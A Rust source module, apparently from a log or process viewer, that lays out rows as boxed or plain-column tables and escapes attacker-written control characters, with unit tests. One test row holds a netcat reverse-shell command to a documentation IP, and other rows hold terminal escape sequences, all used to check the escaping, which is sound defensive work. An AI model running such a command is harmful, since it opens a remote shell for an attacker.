//! Rows of cells for a reader: on a terminal a table fitted to its width (comfy-table, cells
//! wrapped), elsewhere plain columns that stream (each column padded to a fixed width, the last
//! one left free, an empty cell written `-` so that every line has every column).
//!
//! Cells hold log values, which an attacker may have written, so both layouts escape control
//! characters and bytes that are not UTF-8 (see [`super::escape`]): a table or a column line
//! can never be broken or forged by a value.

use super::escape::write_terminal_safe;
use comfy_table::{ColumnConstraint, ContentArrangement, Table, Width, presets};

/// A column: its title and the width its plain cells are padded to.
#[derive(Clone, Copy, Debug)]
pub struct Column {
    pub title: &'static str,
    pub plain_width: usize,
    /// The share of a boxed table's width (percent) the column gets at least.
    pub boxed_share: u16,
}

impl Column {
    pub const fn new(title: &'static str, plain_width: usize) -> Self {
        Column {
            title,
            plain_width,
            boxed_share: 0,
        }
    }

    /// A column that gets at least `share` percent of a boxed table's width.
    pub const fn wide(title: &'static str, plain_width: usize, share: u16) -> Self {
        Column {
            title,
            plain_width,
            boxed_share: share,
        }
    }
}

/// How rows are laid out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Layout {
    /// A boxed table fitted to `width` columns (the terminal's when `None`).
    Boxed { width: Option<u16> },
    /// Plain columns.
    Plain,
}

/// Appends a header line of plain columns.
pub fn write_plain_header(out: &mut Vec<u8>, columns: &[Column]) {
    let titles: Vec<&[u8]> = columns.iter().map(|c| c.title.as_bytes()).collect();
    write_plain_row(out, columns, &titles);
}

/// Appends one line of plain columns.
pub fn write_plain_row(out: &mut Vec<u8>, columns: &[Column], cells: &[&[u8]]) {
    let mut line = Vec::with_capacity(128);
    for (i, (column, cell)) in columns.iter().zip(cells).enumerate() {
        let start = line.len();
        if cell.is_empty() {
            line.push(b'-');
        } else {
            write_terminal_safe(&mut line, cell);
        }
        if i + 1 < columns.len() {
            let shown = char_count(&line[start..]);
            let pad = column.plain_width.saturating_sub(shown) + 2;
            line.extend(std::iter::repeat_n(b' ', pad));
        }
    }
    out.extend_from_slice(&line);
    out.push(b'\n');
}

/// The rows as a boxed table; columns empty in every row are left out.
pub fn boxed(columns: &[Column], rows: &[Vec<Vec<u8>>], width: Option<u16>) -> String {
    let used: Vec<usize> = (0..columns.len())
        .filter(|&c| rows.iter().any(|r| r.get(c).is_some_and(|v| !v.is_empty())))
        .collect();
    let mut table = Table::new();
    table
        .load_style(presets::UTF8_FULL_CONDENSED)
        .set_content_arrangement(ContentArrangement::Dynamic)
        .set_header(used.iter().map(|&c| columns[c].title).collect::<Vec<_>>());
    if let Some(width) = width {
        table.set_width(width);
    }
    for row in rows {
        table.add_row(used.iter().map(|&c| safe_text(&row[c])).collect::<Vec<_>>());
    }
    for (at, &c) in used.iter().enumerate() {
        if columns[c].boxed_share > 0
            && let Some(column) = table.column_mut(at)
        {
            let share = Width::Percentage(columns[c].boxed_share);
            column.set_constraint(ColumnConstraint::LowerBoundary(share));
        }
    }
    let mut text = table.to_string();
    text.push('\n');
    text
}

fn safe_text(cell: &[u8]) -> String {
    let mut out = Vec::with_capacity(cell.len());
    write_terminal_safe(&mut out, cell);
    String::from_utf8(out).unwrap_or_default()
}

fn char_count(bytes: &[u8]) -> usize {
    bytes.iter().filter(|&&b| b & 0xc0 != 0x80).count()
}

#[cfg(test)]
mod tests {
    use super::*;

    const COLUMNS: &[Column] = &[
        Column::new("PID", 5),
        Column::new("NOTE", 4),
        Column::new("ARGV", 0),
    ];

    #[test]
    fn plain_columns_pad_escape_and_mark_empty_cells() {
        let mut out = Vec::new();
        write_plain_header(&mut out, COLUMNS);
        write_plain_row(&mut out, COLUMNS, &[b"42", b"", b"echo \x1b[2J\nx"]);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "PID    NOTE  ARGV\n42     -     echo \\x1b[2J\\x0ax\n"
        );
    }

    #[test]
    fn a_boxed_table_fits_its_width_and_drops_empty_columns() {
        let rows = vec![
            vec![
                b"4170".to_vec(),
                Vec::new(),
                b"nc -e /bin/sh 198.51.100.9 4444".to_vec(),
            ],
            vec![b"1".to_vec(), Vec::new(), b"\x1b]0;x\x07".to_vec()],
        ];
        let text = boxed(COLUMNS, &rows, Some(30));
        assert!(!text.contains("NOTE"), "{text}");
        assert!(text.contains("\\x1b]0;x\\x07"), "{text}");
        assert!(text.lines().all(|l| l.chars().count() <= 30), "{text}");
        assert!(text.contains("4170"), "{text}");
    }
}
